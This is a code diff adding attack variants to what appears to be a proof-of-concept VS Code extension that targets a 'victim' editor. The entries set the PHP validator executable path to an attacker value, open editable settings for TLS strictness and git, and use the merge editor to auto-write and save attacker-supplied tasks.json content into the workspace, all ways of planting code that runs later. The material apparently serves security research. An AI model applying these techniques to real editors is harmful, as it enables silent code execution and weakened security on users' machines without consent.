@@ -22,6 +22,24 @@ exports.activate = (context) =>
     // The victim has the permission for it, and sees what the person set.
     shared: () => "declared",
     family: (facts, vscode) => vscode.workspace.getConfiguration("php").update("validate.executablePath", facts.mark, vscode.ConfigurationTarget.Global),
+    // Commands that a person has beside them to write a setting: nobody looked at what they do.
+    toggled: (facts, vscode) => vscode.commands.executeCommand("editor.action.toggleRenderControlCharacter"),
+    revealed: (facts, vscode) => vscode.commands.executeCommand("workbench.action.openSettingsJson", { revealSetting: { key: "http.proxyStrictSSL", edit: true } }),
+    revealedRemote: (facts, vscode) => vscode.commands.executeCommand("workbench.action.openRemoteSettingsFile", { revealSetting: { key: "git.enabled", edit: true } }),
+    // What is merged is written to a file that was only named.
+    async merged(facts, vscode) {
+      const part = (name, text) => {
+        nodeWrite(`${facts.workspace}/.proof/${name}.json`, text);
+        return vscode.Uri.file(`${facts.workspace}/.proof/${name}.json`);
+      };
+      const run = (id, ...rest) => vscode.commands.executeCommand(id, ...rest);
+      const [base, first, second] = [part("base", "{}\n"), part("first", "{}\n"), part("second", tasksJson(facts))];
+      if (!fs.existsSync(`${facts.workspace}/.vscode/tasks.json`)) await vscode.workspace.fs.writeFile(vscode.Uri.file(`${facts.workspace}/.vscode/tasks.json`), Buffer.from("{}\n")).then(undefined, () => {});
+      await run("_open.mergeEditor", { base, input1: { uri: first, title: "a" }, input2: { uri: second, title: "b" }, output: vscode.Uri.file(`${facts.workspace}/.vscode/tasks.json`) });
+      await new Promise((resolve) => setTimeout(resolve, 2000));
+      await run("merge.acceptAllInput2");
+      await run("workbench.action.files.save");
+    },
     filesTasks: (facts, vscode) =>
       vscode.workspace.fs.writeFile(vscode.Uri.file(`${facts.workspace}/.vscode/tasks.json`), Buffer.from(tasksJson(facts))),
     nodeTasks: (facts) => nodeWrite(`${facts.workspace}/.vscode/tasks.json`, tasksJson(facts)),
